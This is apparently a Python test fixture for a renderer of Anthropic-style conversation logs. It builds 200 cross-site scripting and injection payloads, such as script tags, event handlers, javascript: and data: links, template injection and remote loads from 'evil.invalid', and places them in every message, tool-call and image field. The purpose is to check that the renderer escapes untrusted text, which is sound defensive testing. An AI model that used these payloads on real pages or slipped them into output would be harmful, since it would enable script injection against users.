"""Texts that run, load or send something if a page shows them without escaping.

There are two hundred: each attack in four wrappings. A test detects a successful attack because it
sets `window.ran`, opens a dialog, sends a request to `evil.invalid`, or adds an element.
"""

from collections.abc import Iterator
from itertools import islice, product
from typing import Any

from .json_types import Json

RUNS = "window.ran=1;alert(1)"
HOST = "evil.invalid"

_WAYS = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt src=//{HOST}/x.js></sCrIpT>",
    f"<img src=x onerror={RUNS}>",
    f"<img src=http://{HOST}/pixel.png>",
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><use href='http://{HOST}/a.svg#x'/></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<object data=http://{HOST}/x.swf></object>",
    f"<embed src=http://{HOST}/x.svg>",
    f"<link rel=stylesheet href=http://{HOST}/x.css>",
    f"<style>@import 'http://{HOST}/x.css'; * {{display:none}}</style>",
    f"<base href=http://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<form action=http://{HOST}/><input name=a autofocus onfocus={RUNS}></form>",
    f"<button formaction=javascript:{RUNS}>x</button>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<body onload={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=http://{HOST}/a.mp3 autoplay></audio>",
    f"<input onfocus={RUNS} autofocus>",
    f"<a href=javascript:{RUNS}>click</a>",
    f"<a href='&#106;avascript:{RUNS}'>click</a>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
    f"<template><script>{RUNS}</script></template>",
    f"<div hx-get=http://{HOST}/ hx-trigger=load>x</div>",
    f"<div hx-on:load='{RUNS}' hx-get=/ hx-trigger=load>x</div>",
    f"<div data-hx-on-click='{RUNS}' hx-vals='js:{{a:{RUNS}}}'>x</div>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<div style=\"background:url(http://{HOST}/bg.png)\">x</div>",
    f"<table background=http://{HOST}/t.png><tr><td>x</table>",
    f"[click](javascript:{RUNS})",
    f"[click](JaVaScRiPt&#58;{RUNS})",
    f"[click](data:text/html,<script>{RUNS}</script>)",
    f"[click](vbscript:{RUNS})",
    f"![picture](http://{HOST}/p.png)",
    f"![picture](data:image/svg+xml,<svg onload={RUNS}>)",
    f"<javascript:{RUNS}>",
    f"<http://{HOST}/auto>",
    f"[a]: http://{HOST}/ref 'x'\n\n![a]",
    f"[x](http://ok.example/\"onmouseover=\"{RUNS})",
    "{{ 7*7 }}{% include 'login.html' %}{{ config.__class__ }}",
    f"{{{{ '<script>{RUNS}</script>' | safe }}}}",
    f"</script><script>{RUNS}</script>",
    f"</textarea></title></style><img src=x onerror={RUNS}>",
    f"<!--><img src=x onerror={RUNS}>-->",
    f"<![CDATA[<img src=x onerror={RUNS}>]]>",
    f"\x00<\x00script>{RUNS}</script>\ufeff\u202e<img/src=x/onerror={RUNS}>",
    f"``` \"><img src=x onerror={RUNS}>\n<script>{RUNS}</script>\n```",
)  # fmt: skip
_DRESSES = (
    "{}",
    "\"'>{}<b x='",
    "</code></pre></div></details></article>{}",
    "\n\n- one\n\n    {}\n\n| a | b |\n|---|---|\n| {} | c |\n",
)
PAYLOADS = tuple(dress.replace("{}", way) for dress, way in islice(product(_DRESSES, _WAYS), 200))
assert len(set(PAYLOADS)) == 200


def attacked_messages(payload: str, number: int) -> Iterator[Json]:
    """Return an Anthropic conversation with `payload` in every field that a host can fill."""
    call_id = f"call_{number}"
    yield {"role": "user", "content": payload}
    yield {
        "role": "assistant",
        "content": [
            {"type": "thinking", "thinking": payload, "signature": payload},
            {"type": "text", "text": payload},
            _use(call_id, payload, {payload: payload, "file_path": payload, "n": [payload]}),
            _use(f"{call_id}e", "Edit", {"old_string": payload, "new_string": f"x{payload}"}),
            _use(f"{call_id}b", "Bash", {"command": payload}),
            _use(f"{call_id}r", "Read", {"file_path": f"a.py{payload}"}),
            _use(
                f"{call_id}w", "Write", {"file_path": "a.html", "content": f"{payload}\n{payload}"}
            ),
        ],
    }
    table = f"a,b,{payload!r}\n" * 3
    yield {
        "role": "user",
        "content": [
            _result(call_id, payload, is_error=True),
            _result(f"{call_id}e", [{"type": "text", "text": f'{{"{number}": ["<b>", 1]}}'}]),
            _result(f"{call_id}b", table),
            _result(f"{call_id}r", f"def f():\n    return {payload!r}\n"),
            _result(f"{call_id}w", f"--- a\n+++ {payload}\n@@ {payload}\n-{payload}\n+{payload}\n"),
            {"type": "image", "source": {"type": "url", "url": f"http://{HOST}/{payload}"}},
            {
                "type": "image",
                "source": {"type": "base64", "media_type": f"image/png{payload}", "data": "AAAA"},
            },
            {
                "type": "image",
                "source": {"type": "base64", "media_type": "image/png", "data": f"AA{payload}"},
            },
            {"type": payload, payload: payload},
        ],
    }


def _use(call_id: str, name: str, given: dict[str, Any]) -> Json:
    return {"type": "tool_use", "id": call_id, "name": name, "input": given}


def _result(call_id: str, content: Any, *, is_error: bool = False) -> Json:
    return {
        "type": "tool_result", "tool_use_id": call_id, "content": content, "is_error": is_error,
    }  # fmt: skip
